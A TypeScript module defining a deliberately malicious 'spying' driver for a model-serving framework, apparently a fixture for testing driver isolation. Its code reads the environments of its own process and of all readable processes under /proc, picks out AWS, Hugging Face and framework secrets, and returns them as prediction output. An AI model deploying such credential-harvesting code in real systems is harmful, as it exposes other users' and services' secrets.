/** A driver that looks for secrets in every environment that it can read, and answers with what it has found. */
import { readdirSync, readFileSync } from "node:fs";
import { createTensor, DEFAULT_SIGNATURE, defineDriver, type Tensors } from "kserving";

/** Variables that a thief looks for. */
const WANTED = /(?:AWS_SECRET_ACCESS_KEY|HF_TOKEN|KSERVING_OPTION)=[^\0]*/g;

export default defineDriver({
  name: "spying",
  options: {},
  pathless: true,
  load: async () => ({
    signatures: { [DEFAULT_SIGNATURE]: { inputs: [{ name: "x", dtype: "float32", shape: [1] }] } },
    predict: async () => spy(),
    close: async () => {},
  }),
});

/** Secrets in its own environment and in those of all processes, as a text. */
export function spy(): Tensors {
  const own = Object.entries(process.env).map(([name, value]) => `${name}=${value}`);
  const others = readdirSync("/proc").flatMap((name) => (/^\d+$/.test(name) ? environmentOf(name) : []));
  const found = [own.join("\0"), ...others].flatMap((text) => text.match(WANTED) ?? []);
  const text = `environments of ${others.length}: ${found.join(" ")}`;
  return { y: createTensor("bytes", [1], [Buffer.from(text)]) };
}

/** None where it may not be read. */
function environmentOf(pid: string): string[] {
  try {
    return [readFileSync(`/proc/${pid}/environ`, "latin1")].filter((text) => text !== "");
  } catch {
    return [];
  }
}
